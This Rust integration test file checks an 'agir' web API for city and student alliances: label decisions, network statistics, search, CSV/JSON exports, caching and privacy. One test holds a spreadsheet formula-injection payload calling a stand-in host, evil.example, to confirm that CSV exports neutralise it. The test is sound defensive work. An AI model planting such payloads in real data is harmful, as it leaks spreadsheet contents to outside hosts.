use actix_web::http::StatusCode;
use agir_http::routes::actions::{CreateActionRequest, UpdateActionRequest};
use agir_http::routes::alliances::CreateAllianceRequest;
use agir_http::routes::cities::CreateCityRequest;
use agir_http::routes::labels::{ApplyLabelRequest, DecideLabelRequest};
use agir_http::routes::partners::CreatePartnerRequest;
use agir_http::routes::plans::{CreatePlanRequest, TransitionRequest};
use agir_http::routes::results::{CreateIndicatorRequest, CreateMeasurementRequest, ReviewRequest};
use agir_tests::fixture::days_from_today;
use agir_tests::{Client, TestApp};
use serde::Serialize;
use serde_json::{Value, json};

fn application(year: &str) -> ApplyLabelRequest {
    ApplyLabelRequest {
        academic_year: year.into(),
        note: None,
    }
}

fn decision(status: &str) -> DecideLabelRequest {
    DecideLabelRequest {
        status: status.into(),
        note: None,
    }
}

fn plan_of(year: &str) -> CreatePlanRequest {
    CreatePlanRequest {
        academic_year: year.into(),
        ..CreatePlanRequest::default()
    }
}

fn action_status(status: &str) -> UpdateActionRequest {
    UpdateActionRequest {
        status: Some(status.into()),
        ..UpdateActionRequest::default()
    }
}

fn catalogue(catalogue: &str) -> CreateIndicatorRequest {
    CreateIndicatorRequest {
        catalogue: Some(catalogue.into()),
        ..CreateIndicatorRequest::default()
    }
}

fn recorded(value: f64, partner: &str) -> CreateMeasurementRequest {
    CreateMeasurementRequest {
        value,
        partner_id: Some(partner.parse().unwrap()),
        ..CreateMeasurementRequest::default()
    }
}

fn brest() -> CreateCityRequest {
    CreateCityRequest {
        name: "Brest".into(),
        insee_code: "29019".into(),
        department: "Finistère".into(),
        region: "Bretagne".into(),
    }
}

async fn post(client: &Client, path: &str, body: impl Serialize) -> Value {
    let response = client.post(path).json(&body).send().await;
    assert!(
        response.status().is_success(),
        "{path}: {}",
        response.text()
    );
    response.json()
}

async fn patch(client: &Client, path: &str, body: impl Serialize) -> Value {
    let response = client.patch(path).json(&body).send().await;
    assert!(
        response.status().is_success(),
        "{path}: {}",
        response.text()
    );
    response.json()
}

fn id(v: &Value) -> String {
    v["id"].as_str().unwrap().to_owned()
}

#[actix_web::test]
async fn the_label_lifecycle_and_who_decides() {
    let app = TestApp::spawn().await;
    let f = app.alliance_fixture(1).await;
    let admin = app.admin().await;
    let base = format!("/api/v1/alliances/{}/labels", f.alliance);
    f.member_p
        .client
        .post(&base)
        .json(&application("2026-2027"))
        .send()
        .await
        .assert_problem(403, "forbidden");
    let applied = f
        .coordinator
        .client
        .post(&base)
        .json(&ApplyLabelRequest {
            note: Some("Reconduction".into()),
            ..application("2026-2027")
        })
        .send()
        .await;
    assert_eq!(applied.status(), StatusCode::CREATED, "{}", applied.text());
    let label: Value = applied.json();
    assert_eq!(label["status"], "applied");
    // The fixture has a city, a student association and a school: no university, no Crous.
    assert_eq!(
        label["missing_kinds"],
        json!(["university", "student_services"])
    );
    f.coordinator
        .client
        .post(&base)
        .json(&application("2026-2027"))
        .send()
        .await
        .assert_problem(409, "label_exists");

    let path = format!("{base}/{}", id(&label));
    f.coordinator
        .client
        .patch(&path)
        .json(&decision("granted"))
        .send()
        .await
        .assert_problem(403, "forbidden");
    admin
        .patch(&path)
        .json(&decision("withdrawn"))
        .send()
        .await
        .assert_problem(409, "invalid_transition");
    // Not public until granted.
    let public: Value = app.anonymous().get(&base).send().await.json();
    assert_eq!(public["items"].as_array().unwrap().len(), 0);
    let granted = patch(
        &admin,
        &path,
        DecideLabelRequest {
            note: Some("Bravo".into()),
            ..decision("granted")
        },
    )
    .await;
    assert_eq!(granted["status"], "granted");
    let public: Value = app.anonymous().get(&base).send().await.json();
    assert_eq!(public["items"][0]["academic_year"], "2026-2027");
    let withdrawn = patch(&admin, &path, decision("withdrawn")).await;
    assert_eq!(withdrawn["status"], "withdrawn");

    // A granted label of a past year is reported expired.
    let old = post(&f.coordinator.client, &base, application("2020-2021")).await;
    let expired = patch(&admin, &format!("{base}/{}", id(&old)), decision("granted")).await;
    assert_eq!(expired["status"], "expired");
    let network: Value = app
        .anonymous()
        .get("/api/v1/network/labels")
        .send()
        .await
        .json();
    assert_eq!(network["items"].as_array().unwrap().len(), 1);
    assert_eq!(network["items"][0]["status"], "expired");
    assert_eq!(network["items"][0]["insee_code"], "92001");
    let granted_only: Value = app
        .anonymous()
        .get("/api/v1/network/labels?status=granted")
        .send()
        .await
        .json();
    assert_eq!(granted_only["items"].as_array().unwrap().len(), 0);
}

/// Two cities in two regions, hand-built: the network statistics are counted by hand.
struct Network {
    admin: Client,
    coordinator_a: Client,
    rennes: String,
    rennes_partners: Vec<String>,
    /// Rennes' food collection indicator: 30 kg recorded, not reviewed.
    food: String,
}

async fn two_cities(app: &TestApp) -> Network {
    let admin = app.admin().await;
    let mut coordinators = Vec::new();
    for (city, insee, region, kinds) in [
        (
            "Rennes",
            "35238",
            "Bretagne",
            vec!["local_authority", "university", "student_association"],
        ),
        (
            "Albi",
            "81004",
            "Occitanie",
            vec!["local_authority", "school"],
        ),
    ] {
        let c = post(
            &admin,
            "/api/v1/cities",
            CreateCityRequest {
                name: city.into(),
                insee_code: insee.into(),
                department: "D".into(),
                region: region.into(),
            },
        )
        .await;
        let a = post(
            &admin,
            "/api/v1/alliances",
            CreateAllianceRequest {
                city_id: id(&c).parse().unwrap(),
                name: format!("Alliance de {city}"),
                ..CreateAllianceRequest::default()
            },
        )
        .await;
        let alliance = id(&a);
        let mut partners = Vec::new();
        for (i, kind) in kinds.iter().enumerate() {
            partners.push(id(&post(
                &admin,
                &format!("/api/v1/alliances/{alliance}/partners"),
                CreatePartnerRequest {
                    name: format!("{city} {i}"),
                    kind: (*kind).into(),
                    ..CreatePartnerRequest::default()
                },
            )
            .await));
        }
        let (user, client) = app
            .user(&format!("coord@{}.example.org", city.to_lowercase()))
            .await;
        app.mandate(
            alliance.parse().unwrap(),
            user.0,
            partners[0].parse().unwrap(),
            "coordinator",
            days_from_today(-10),
            None,
        )
        .await;
        coordinators.push((alliance, partners, client));
    }
    let (rennes, rennes_partners, coordinator_a) = coordinators.remove(0);
    let (albi, _, coordinator_b) = coordinators.remove(0);

    // Rennes: an adopted plan with a completed compost action (verified) and a food
    // collection in progress; Albi: a draft plan, private, which counts nowhere.
    let plan = id(&post(
        &coordinator_a,
        &format!("/api/v1/alliances/{rennes}/plans"),
        plan_of("2025-2026"),
    )
    .await);
    let compost = id(&post(
        &coordinator_a,
        &format!("/api/v1/alliances/{rennes}/plans/{plan}/actions"),
        CreateActionRequest {
            title: "Compost collectif en résidence étudiante".into(),
            description: "Les étudiants compostent leurs déchets".into(),
            theme: "waste".into(),
            ..CreateActionRequest::default()
        },
    )
    .await);
    let collecte = id(&post(
        &coordinator_a,
        &format!("/api/v1/alliances/{rennes}/plans/{plan}/actions"),
        CreateActionRequest {
            title: "Collecte de fruits et légumes".into(),
            description: "Redistribution aux publics fragiles".into(),
            theme: "food".into(),
            ..CreateActionRequest::default()
        },
    )
    .await);
    for to in ["consultation", "voting", "adopted"] {
        post(
            &coordinator_a,
            &format!("/api/v1/alliances/{rennes}/plans/{plan}/transition"),
            TransitionRequest { to: (*to).into() },
        )
        .await;
    }
    for (action, statuses) in [
        (&compost, vec!["in_progress", "completed"]),
        (&collecte, vec!["in_progress"]),
    ] {
        for status in statuses {
            patch(
                &coordinator_a,
                &format!("/api/v1/alliances/{rennes}/actions/{action}"),
                action_status(status),
            )
            .await;
        }
    }
    let kg = id(&post(
        &coordinator_a,
        &format!("/api/v1/alliances/{rennes}/actions/{compost}/indicators"),
        CreateIndicatorRequest {
            target: Some(100.0),
            ..catalogue("compost_kg")
        },
    )
    .await);
    let food = id(&post(
        &coordinator_a,
        &format!("/api/v1/alliances/{rennes}/actions/{collecte}/indicators"),
        catalogue("food_collected_kg"),
    )
    .await);
    // The city records; the university confirms the compost, not the food.
    let m1 = id(&post(
        &coordinator_a,
        &format!("/api/v1/alliances/{rennes}/indicators/{kg}/measurements"),
        CreateMeasurementRequest {
            note: Some("pesée".into()),
            ..recorded(80.0, &rennes_partners[0])
        },
    )
    .await);
    post(
        &coordinator_a,
        &format!("/api/v1/alliances/{rennes}/indicators/{food}/measurements"),
        recorded(30.0, &rennes_partners[0]),
    )
    .await;
    let (rep, rep_client) = app.user("rep@univ-rennes.example.org").await;
    app.mandate(
        rennes.parse().unwrap(),
        rep.0,
        rennes_partners[1].parse().unwrap(),
        "representative",
        days_from_today(-10),
        None,
    )
    .await;
    post(
        &rep_client,
        &format!("/api/v1/alliances/{rennes}/measurements/{m1}/review"),
        ReviewRequest {
            verdict: "confirm".into(),
            ..ReviewRequest::default()
        },
    )
    .await;

    let albi_plan = id(&post(
        &coordinator_b,
        &format!("/api/v1/alliances/{albi}/plans"),
        plan_of("2025-2026"),
    )
    .await);
    post(
        &coordinator_b,
        &format!("/api/v1/alliances/{albi}/plans/{albi_plan}/actions"),
        CreateActionRequest {
            title: "Compost secret".into(),
            theme: "waste".into(),
            ..CreateActionRequest::default()
        },
    )
    .await;
    // A granted label in Bretagne, an application in Occitanie.
    let label = post(
        &coordinator_a,
        &format!("/api/v1/alliances/{rennes}/labels"),
        application("2026-2027"),
    )
    .await;
    patch(
        &admin,
        &format!("/api/v1/alliances/{rennes}/labels/{}", id(&label)),
        decision("granted"),
    )
    .await;
    post(
        &coordinator_b,
        &format!("/api/v1/alliances/{albi}/labels"),
        application("2026-2027"),
    )
    .await;
    Network {
        admin,
        coordinator_a,
        rennes,
        rennes_partners,
        food,
    }
}

#[actix_web::test]
async fn stats_equal_the_hand_counted_values() {
    let app = TestApp::spawn().await;
    let network = two_cities(&app).await;
    let stats: Value = app
        .anonymous()
        .get("/api/v1/network/stats")
        .send()
        .await
        .json();
    assert_eq!(
        stats["alliances"],
        json!({"total": 2, "by_status": {"active": 2}, "by_region": {"Bretagne": 1, "Occitanie": 1}})
    );
    assert_eq!(
        stats["labels"]["by_status"],
        json!({"applied": 1, "granted": 1})
    );
    assert_eq!(
        stats["labels"]["by_region"]["Bretagne"],
        json!({"granted": 1})
    );
    assert_eq!(stats["partners"]["total"], 5);
    assert_eq!(
        stats["partners"]["by_kind"],
        json!({"local_authority": 2, "school": 1, "student_association": 1, "university": 1})
    );
    assert_eq!(
        stats["partners"]["by_college"],
        json!({"city": 2, "higher_education": 2, "students": 1})
    );
    // Albi's draft plan is private: it counts nowhere.
    assert_eq!(
        stats["actions"],
        json!({"total": 2, "by_theme": {"food": 1, "waste": 1}, "by_status": {"completed": 1, "in_progress": 1}})
    );
    assert_eq!(
        stats["indicators"],
        json!([
            {"catalogue": "compost_kg", "unit": "kg", "verified": 80.0, "unverified": 0.0, "measurements": 1},
            {"catalogue": "food_collected_kg", "unit": "kg", "verified": 0.0, "unverified": 30.0, "measurements": 1}
        ])
    );
    let occitanie: Value = app
        .anonymous()
        .get("/api/v1/network/stats?region=Occitanie")
        .send()
        .await
        .json();
    assert_eq!(occitanie["alliances"]["total"], 1);
    assert_eq!(occitanie["actions"]["total"], 0);
    assert_eq!(occitanie["labels"]["by_status"], json!({"applied": 1}));
    let other_year: Value = app
        .anonymous()
        .get("/api/v1/network/stats?academic_year=2024-2025")
        .send()
        .await
        .json();
    assert_eq!(other_year["actions"]["total"], 0);
    app.anonymous()
        .get("/api/v1/network/stats?academic_year=2024")
        .send()
        .await
        .assert_problem(422, "validation_failed");
    drop(network.admin);
}

/// The per-indicator and per-plan totals are recomputed by triggers: measurements
/// recorded at the same time must not each compute a total without the other.
#[actix_web::test]
async fn totals_stay_exact_when_measurements_arrive_together() {
    let app = TestApp::spawn().await;
    let network = two_cities(&app).await;
    let (rennes, food, partner) = (&network.rennes, &network.food, &network.rennes_partners[0]);
    let writes = (1..=12).map(|value| {
        network
            .coordinator_a
            .post(&format!(
                "/api/v1/alliances/{rennes}/indicators/{food}/measurements"
            ))
            .json(&recorded(f64::from(value), partner))
            .send()
    });
    for response in futures_util::future::join_all(writes).await {
        assert_eq!(
            response.status(),
            StatusCode::CREATED,
            "{}",
            response.text()
        );
    }
    let stats: Value = app
        .anonymous()
        .get("/api/v1/network/stats")
        .send()
        .await
        .json();
    // 30 kg before, then 1 + 2 + … + 12 = 78 kg.
    assert_eq!(
        stats["indicators"][1],
        json!({"catalogue": "food_collected_kg", "unit": "kg", "verified": 0.0, "unverified": 108.0, "measurements": 13})
    );
    // A change of status moves the action from one count to the other.
    let actions: Value = app
        .anonymous()
        .get("/api/v1/network/actions?theme=food")
        .send()
        .await
        .json();
    let collecte = actions["items"][0]["id"].as_str().unwrap().to_owned();
    patch(
        &network.coordinator_a,
        &format!("/api/v1/alliances/{rennes}/actions/{collecte}"),
        action_status("completed"),
    )
    .await;
    let stats: Value = app
        .anonymous()
        .get("/api/v1/network/stats")
        .send()
        .await
        .json();
    assert_eq!(
        stats["actions"],
        json!({"total": 2, "by_theme": {"food": 1, "waste": 1}, "by_status": {"completed": 2}})
    );
}

#[actix_web::test]
async fn search_finds_a_compost_action_by_word_and_by_theme() {
    let app = TestApp::spawn().await;
    two_cities(&app).await;
    let titles = async |query: &str| -> Vec<String> {
        let page: Value = app
            .anonymous()
            .get(&format!("/api/v1/network/actions?{query}"))
            .send()
            .await
            .json();
        page["items"]
            .as_array()
            .unwrap()
            .iter()
            .map(|a| a["title"].as_str().unwrap().to_owned())
            .collect()
    };
    assert_eq!(
        titles("q=compost").await,
        ["Compost collectif en résidence étudiante"]
    );
    // French stemming: plural and verb forms find it too.
    assert_eq!(titles("q=composts").await.len(), 1);
    assert_eq!(titles("q=compostent").await.len(), 1);
    assert_eq!(
        titles("theme=waste").await,
        ["Compost collectif en résidence étudiante"]
    );
    assert_eq!(
        titles("q=fruits%20l%C3%A9gumes").await,
        ["Collecte de fruits et légumes"]
    );
    assert_eq!(
        titles("region=Occitanie").await.len(),
        0,
        "a draft plan is not public"
    );
    assert_eq!(
        titles("q=compost&region=Bretagne&academic_year=2025-2026")
            .await
            .len(),
        1
    );
    let page: Value = app
        .anonymous()
        .get("/api/v1/network/actions?q=compost")
        .send()
        .await
        .json();
    let found = &page["items"][0];
    assert_eq!(found["city"], "Rennes");
    assert_eq!(found["region"], "Bretagne");
    assert_eq!(found["verification"], "verified");
    assert_eq!(found["results"][0]["confirmed_total"], 80.0);
    assert_eq!(found["lead_partner"]["name"], "Rennes 0");
    // Pages chain.
    let first: Value = app
        .anonymous()
        .get("/api/v1/network/actions?limit=1")
        .send()
        .await
        .json();
    let next = first["next_cursor"].as_str().unwrap();
    let second: Value = app
        .anonymous()
        .get(&format!("/api/v1/network/actions?limit=1&cursor={next}"))
        .send()
        .await
        .json();
    assert_ne!(first["items"][0]["id"], second["items"][0]["id"]);
    assert!(second["next_cursor"].is_null());
}

#[actix_web::test]
async fn exports_parse_back_with_a_csv_reader() {
    let app = TestApp::spawn().await;
    two_cities(&app).await;
    for (resource, rows, column) in [
        ("labels", 1, "insee_code"),
        ("alliances", 2, "region"),
        ("partners", 5, "college"),
        ("actions", 2, "verified"),
        ("indicators", 2, "verified_total"),
    ] {
        let response = app
            .anonymous()
            .get(&format!("/api/v1/network/exports/{resource}.csv"))
            .send()
            .await;
        assert_eq!(response.status(), StatusCode::OK, "{resource}");
        assert!(
            response
                .header("content-type")
                .unwrap()
                .starts_with("text/csv")
        );
        assert!(response.header("cache-control").is_some());
        let mut reader = csv::Reader::from_reader(response.bytes());
        let headers = reader.headers().unwrap().clone();
        assert!(
            headers.iter().any(|h| h == column),
            "{resource}: {headers:?}"
        );
        let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(records.len(), rows, "{resource}");
        assert!(records.iter().all(|r| r.len() == headers.len()));

        let json = app
            .anonymous()
            .get(&format!("/api/v1/network/exports/{resource}.json"))
            .send()
            .await;
        let items: Vec<Value> = json.json();
        assert_eq!(items.len(), rows);
        assert!(items[0].get(column).is_some());
    }
    let actions = app
        .anonymous()
        .get("/api/v1/network/exports/actions.csv")
        .send()
        .await;
    let mut reader = csv::Reader::from_reader(actions.bytes());
    let titles: Vec<String> = reader.records().map(|r| r.unwrap()[6].to_owned()).collect();
    assert!(
        titles.contains(&"Collecte de fruits et légumes".to_owned()),
        "{titles:?}"
    );
    app.anonymous()
        .get("/api/v1/network/exports/users.csv")
        .send()
        .await
        .assert_problem(404, "not_found");
    app.anonymous()
        .get("/api/v1/network/exports/actions.xml")
        .send()
        .await
        .assert_problem(404, "not_found");
}

#[actix_web::test]
async fn network_answers_revalidate_with_their_etag() {
    let app = TestApp::spawn().await;
    let network = two_cities(&app).await;
    let first = app.anonymous().get("/api/v1/network/stats").send().await;
    let etag = first.header("etag").unwrap();
    assert_eq!(
        first.header("cache-control").as_deref(),
        Some("public, max-age=60")
    );
    let again = app
        .anonymous()
        .get("/api/v1/network/stats")
        .header("if-none-match", &etag)
        .send()
        .await;
    assert_eq!(again.status(), StatusCode::NOT_MODIFIED);
    // Another query is another representation.
    let other = app
        .anonymous()
        .get("/api/v1/network/stats?region=Bretagne")
        .header("if-none-match", &etag)
        .send()
        .await;
    assert_eq!(other.status(), StatusCode::OK);
    // Any write changes the version.
    post(&network.admin, "/api/v1/cities", brest()).await;
    let changed = app
        .anonymous()
        .get("/api/v1/network/stats")
        .header("if-none-match", &etag)
        .send()
        .await;
    assert_eq!(changed.status(), StatusCode::OK);
    assert_ne!(changed.header("etag").unwrap(), etag);
    drop(network.coordinator_a);
}

#[actix_web::test]
async fn no_personal_data_in_any_network_answer_or_export() {
    let app = TestApp::spawn().await;
    agir_http::demo::load(&app.state).await.unwrap();
    two_cities(&app).await;
    let mut conn = app.db.connect().await;
    use diesel::prelude::*;
    use diesel_async::RunQueryDsl;
    let people: Vec<(String, String)> = agir_persistence::schema::users::table
        .select((
            agir_persistence::schema::users::email,
            agir_persistence::schema::users::display_name,
        ))
        .load(&mut conn)
        .await
        .unwrap();
    assert!(people.len() > 10);
    let mut paths: Vec<String> = [
        "/api/v1/network/labels",
        "/api/v1/network/stats",
        "/api/v1/network/actions?limit=200",
        "/api/v1/network/actions?q=compost",
    ]
    .iter()
    .map(|p| (*p).to_owned())
    .collect();
    for resource in ["labels", "alliances", "partners", "actions", "indicators"] {
        paths.push(format!("/api/v1/network/exports/{resource}.csv"));
        paths.push(format!("/api/v1/network/exports/{resource}.json"));
    }
    for path in paths {
        let response = app.anonymous().get(&path).send().await;
        assert_eq!(response.status(), StatusCode::OK, "{path}");
        let text = response.text();
        assert!(text.len() > 20, "{path}: {text}");
        for (email, name) in &people {
            assert!(!text.contains(email.as_str()), "{path} reveals {email}");
            assert!(!text.contains(name.as_str()), "{path} reveals {name}");
        }
        assert!(!text.contains('@'), "{path} contains an email-like text");
    }
}

#[actix_web::test]
async fn an_empty_export_still_has_its_header() {
    let app = TestApp::spawn().await;
    let response = app
        .anonymous()
        .get("/api/v1/network/exports/labels.csv")
        .send()
        .await;
    assert_eq!(response.status(), StatusCode::OK);
    let mut reader = csv::Reader::from_reader(response.bytes());
    assert_eq!(reader.headers().unwrap().get(0), Some("id"));
    assert_eq!(reader.records().count(), 0);
    let json: Vec<Value> = app
        .anonymous()
        .get("/api/v1/network/exports/labels.json")
        .send()
        .await
        .json();
    assert!(json.is_empty());
}

/// A draft plan of the fixture's alliance with the given actions, proposed by the
/// coordinator for the city: their ids, in order.
async fn plan_with(
    f: &agir_tests::fixture::AllianceFixture,
    year: &str,
    titles: &[&str],
) -> (String, Vec<String>) {
    let coordinator = &f.coordinator.client;
    let alliance = f.alliance;
    let plan = id(&post(
        coordinator,
        &format!("/api/v1/alliances/{alliance}/plans"),
        plan_of(year),
    )
    .await);
    let mut actions = Vec::new();
    for title in titles {
        actions.push(id(&post(
            coordinator,
            &format!("/api/v1/alliances/{alliance}/plans/{plan}/actions"),
            CreateActionRequest {
                title: (*title).into(),
                theme: "food".into(),
                proposing_partner_id: Some(f.city_partner),
                ..CreateActionRequest::default()
            },
        )
        .await));
    }
    (plan, actions)
}

async fn transition(f: &agir_tests::fixture::AllianceFixture, plan: &str, to: &[&str]) {
    for to in to {
        post(
            &f.coordinator.client,
            &format!("/api/v1/alliances/{}/plans/{plan}/transition", f.alliance),
            TransitionRequest { to: (*to).into() },
        )
        .await;
    }
}

/// OWASP's CSV injection rule: a text cell a spreadsheet would run as a formula starts
/// with `'` in CSV exports; numbers stay numbers; JSON exports are unchanged.
#[actix_web::test]
async fn csv_exports_neutralise_formulas_in_text_cells() {
    let app = TestApp::spawn().await;
    let f = app.alliance_fixture(1).await;
    let evil = r#"=HYPERLINK("http://evil.example/?"&A1,"x")"#;
    let (plan, actions) = plan_with(&f, "2025-2026", &[evil, "-Moins", "Compost"]).await;
    transition(&f, &plan, &["consultation", "voting", "adopted"]).await;
    post(
        &f.coordinator.client,
        &format!(
            "/api/v1/alliances/{}/actions/{}/indicators",
            f.alliance, actions[0]
        ),
        CreateIndicatorRequest {
            name: Some("@pesée".into()),
            target: Some(100.0),
            ..catalogue("food_collected_kg")
        },
    )
    .await;

    let csv_rows = async |resource: &str| -> Vec<csv::StringRecord> {
        let response = app
            .anonymous()
            .get(&format!("/api/v1/network/exports/{resource}.csv"))
            .send()
            .await;
        assert_eq!(response.status(), StatusCode::OK, "{resource}");
        csv::Reader::from_reader(response.bytes())
            .records()
            .map(Result::unwrap)
            .collect()
    };
    let titles: Vec<String> = csv_rows("actions")
        .await
        .iter()
        .map(|r| r[6].to_owned())
        .collect();
    assert!(titles.contains(&format!("'{evil}")), "{titles:?}");
    assert!(titles.contains(&"'-Moins".to_owned()), "{titles:?}");
    assert!(titles.contains(&"Compost".to_owned()), "{titles:?}");
    let indicators = csv_rows("indicators").await;
    assert_eq!(indicators.len(), 1);
    // action, name: text; target, total: numbers the server computed.
    assert_eq!(&indicators[0][2], format!("'{evil}"));
    assert_eq!(&indicators[0][8], "'@pesée");
    assert_eq!(&indicators[0][10], "100");
    assert_eq!(&indicators[0][11], "0");

    let json: Vec<Value> = app
        .anonymous()
        .get("/api/v1/network/exports/actions.json")
        .send()
        .await
        .json();
    assert!(json.iter().any(|a| a["title"] == evil), "{json:?}");
    assert!(json.iter().any(|a| a["title"] == "-Moins"), "{json:?}");
}

/// The indicators and actions exports and the statistics hold the actions the network
/// search shows (adopted, running or completed, in adopted or closed plans): never a
/// proposal or a rejected action, in a private plan or in a public one.
#[actix_web::test]
async fn exports_and_stats_hold_only_the_actions_the_network_shows() {
    let app = TestApp::spawn().await;
    let f = app.alliance_fixture(1).await;
    let alliance = f.alliance;
    let coordinator = &f.coordinator.client;
    let (plan, actions) = plan_with(&f, "2025-2026", &["Action retenue", "Projet refusé"]).await;
    let (_draft, drafted) = plan_with(&f, "2026-2027", &["Idée en brouillon"]).await;
    let (consulted, proposed) = plan_with(&f, "2027-2028", &["Idée en consultation"]).await;
    transition(&f, &consulted, &["consultation"]).await;
    for (action, value) in [
        (&actions[0], 10),
        (&actions[1], 1000),
        (&drafted[0], 2000),
        (&proposed[0], 4000),
    ] {
        let indicator = id(&post(
            coordinator,
            &format!("/api/v1/alliances/{alliance}/actions/{action}/indicators"),
            catalogue("food_collected_kg"),
        )
        .await);
        post(
            coordinator,
            &format!("/api/v1/alliances/{alliance}/indicators/{indicator}/measurements"),
            CreateMeasurementRequest {
                value: f64::from(value),
                partner_id: Some(f.city_partner),
                ..CreateMeasurementRequest::default()
            },
        )
        .await;
    }
    patch(
        coordinator,
        &format!("/api/v1/alliances/{alliance}/actions/{}", actions[1]),
        action_status("rejected"),
    )
    .await;
    transition(&f, &plan, &["consultation", "voting", "adopted"]).await;

    let hidden = ["Projet refusé", "Idée en brouillon", "Idée en consultation"];
    for resource in ["indicators", "actions"] {
        for format in ["csv", "json"] {
            let text = app
                .anonymous()
                .get(&format!("/api/v1/network/exports/{resource}.{format}"))
                .send()
                .await
                .text();
            assert!(
                text.contains("Action retenue"),
                "{resource}.{format}: {text}"
            );
            for title in hidden {
                assert!(
                    !text.contains(title),
                    "{resource}.{format} shows {title}: {text}"
                );
            }
        }
    }
    let stats: Value = app
        .anonymous()
        .get("/api/v1/network/stats")
        .send()
        .await
        .json();
    assert_eq!(
        stats["actions"],
        json!({"total": 1, "by_theme": {"food": 1}, "by_status": {"adopted": 1}})
    );
    assert_eq!(
        stats["indicators"],
        json!([{"catalogue": "food_collected_kg", "unit": "kg", "verified": 0.0, "unverified": 10.0, "measurements": 1}])
    );
}

/// Fifty uncached statistics (fifty filters) at once, made slow: a table they read is
/// locked, so every one that runs holds its connection until the lock goes. They run a
/// few at a time, on one connection each, so an ordinary request sent while they are
/// stuck still gets a connection and its answer (without the bound, the stuck
/// statistics held every pooled connection and it waited for the pool's timeout: 503).
#[actix_web::test]
async fn concurrent_uncached_stats_leave_ordinary_requests_answering() {
    use diesel_async::{AsyncConnection, AsyncPgConnection, RunQueryDsl, TransactionManager};

    #[derive(diesel::QueryableByName)]
    struct Waiting {
        #[diesel(sql_type = diesel::sql_types::Int8)]
        n: i64,
    }

    let app = TestApp::spawn().await;
    two_cities(&app).await;
    let mut lock = app.db.connect().await;
    <AsyncPgConnection as AsyncConnection>::TransactionManager::begin_transaction(&mut lock)
        .await
        .unwrap();
    diesel::sql_query("LOCK TABLE plan_indicator_totals IN ACCESS EXCLUSIVE MODE")
        .execute(&mut lock)
        .await
        .unwrap();
    let mut watch = app.db.connect().await;

    let anonymous = app.anonymous();
    let paths: Vec<String> = (0..50)
        .map(|i| {
            format!(
                "/api/v1/network/stats?academic_year={}-{}",
                2000 + i,
                2001 + i
            )
        })
        .collect();
    let stats = futures_util::future::join_all(paths.iter().map(|p| anonymous.get(p).send()));
    let ordinary = async {
        // Wait (boundedly) until statistics are stuck behind the lock.
        let mut stuck = 0;
        for _ in 0..2000 {
            let waiting: Waiting = diesel::sql_query(
                "SELECT count(*)::int8 AS n FROM pg_stat_activity
                 WHERE datname = current_database() AND wait_event_type = 'Lock'",
            )
            .get_result(&mut watch)
            .await
            .unwrap();
            stuck = waiting.n;
            if stuck >= 2 {
                break;
            }
            tokio::time::sleep(std::time::Duration::from_millis(5)).await;
        }
        assert!(stuck >= 2, "the statistics never reached the lock");
        let response = anonymous.get("/api/v1/alliances").send().await;
        <AsyncPgConnection as AsyncConnection>::TransactionManager::commit_transaction(&mut lock)
            .await
            .unwrap();
        response
    };
    let (stats, ordinary) = futures_util::future::join(stats, ordinary).await;
    assert_eq!(ordinary.status(), StatusCode::OK, "{}", ordinary.text());
    assert_eq!(
        ordinary.json::<Value>()["items"].as_array().unwrap().len(),
        2
    );
    assert_eq!(stats.len(), 50);
    for response in &stats {
        assert_eq!(response.status(), StatusCode::OK, "{}", response.text());
    }
}

#[actix_web::test]
async fn unknown_query_parameters_are_refused_on_every_network_endpoint() {
    let app = TestApp::spawn().await;
    two_cities(&app).await;
    for path in [
        "/api/v1/network/labels?x=1",
        "/api/v1/network/stats?x=1",
        "/api/v1/network/stats?region=Bretagne&x=2",
        "/api/v1/network/actions?q=compost&x=1",
        "/api/v1/network/exports/actions.csv?x=1",
        "/api/v1/network/exports/labels.json?x=1",
    ] {
        let problem = app
            .anonymous()
            .get(path)
            .send()
            .await
            .assert_problem(422, "validation_failed");
        assert_eq!(problem.errors[0].field, "x", "{path}");
        assert_eq!(problem.errors[0].code, "unknown_field", "{path}");
    }
    // The answer is named by its normalised filters, not by the raw query string.
    let etag = async |path: &str| {
        let response = app.anonymous().get(path).send().await;
        assert_eq!(response.status(), StatusCode::OK, "{path}");
        response.header("etag").unwrap()
    };
    assert_eq!(
        etag("/api/v1/network/stats?region=Bretagne&academic_year=2025-2026").await,
        etag("/api/v1/network/stats?academic_year=2025-2026&region=%20Bretagne%20").await
    );
    assert_ne!(
        etag("/api/v1/network/stats?region=Bretagne").await,
        etag("/api/v1/network/stats").await
    );
}

/// A transaction that appended its journal entry before another write, but commits
/// after it, still changes the network's version: the answer is never stale.
#[actix_web::test]
async fn a_write_that_commits_late_still_changes_the_network_etag() {
    use agir_domain::ids::AllianceId;
    use agir_persistence::journal::{self, Actor, NewEntry};
    use diesel_async::{AsyncConnection, AsyncPgConnection, RunQueryDsl, TransactionManager};

    let app = TestApp::spawn().await;
    let network = two_cities(&app).await;
    let stats = async || app.anonymous().get("/api/v1/network/stats").send().await;
    assert_eq!(stats().await.json::<Value>()["partners"]["total"], 5);

    // A partner of Rennes, written and journaled in a transaction left open.
    let rennes: uuid::Uuid = network.rennes.parse().unwrap();
    let partner = uuid::Uuid::now_v7();
    let mut late = app.db.connect().await;
    <AsyncPgConnection as AsyncConnection>::TransactionManager::begin_transaction(&mut late)
        .await
        .unwrap();
    diesel::sql_query(
        "INSERT INTO partners (id, alliance_id, name, kind, description, status, joined_on, created_at, updated_at)
         VALUES ($1, $2, 'Rennes tardif', 'school', '', 'active', current_date, now(), now())",
    )
    .bind::<diesel::sql_types::Uuid, _>(partner)
    .bind::<diesel::sql_types::Uuid, _>(rennes)
    .execute(&mut late)
    .await
    .unwrap();
    journal::append_entry(
        &mut late,
        NewEntry {
            alliance: Some(AllianceId(rennes)),
            actor: Actor::system(),
            verb: "partner.created",
            subject_type: "partner",
            subject_id: Some(partner),
            summary: json!({"name": "Rennes tardif", "kind": "school"}),
        },
    )
    .await
    .unwrap();

    // Meanwhile another write commits, and the network is read (and cached).
    post(&network.admin, "/api/v1/cities", brest()).await;
    let before = stats().await;
    assert_eq!(before.json::<Value>()["partners"]["total"], 5);
    let etag = before.header("etag").unwrap();

    <AsyncPgConnection as AsyncConnection>::TransactionManager::commit_transaction(&mut late)
        .await
        .unwrap();
    let after = app
        .anonymous()
        .get("/api/v1/network/stats")
        .header("if-none-match", &etag)
        .send()
        .await;
    assert_eq!(after.status(), StatusCode::OK);
    assert_ne!(after.header("etag").unwrap(), etag);
    assert_eq!(after.json::<Value>()["partners"]["total"], 6);
}
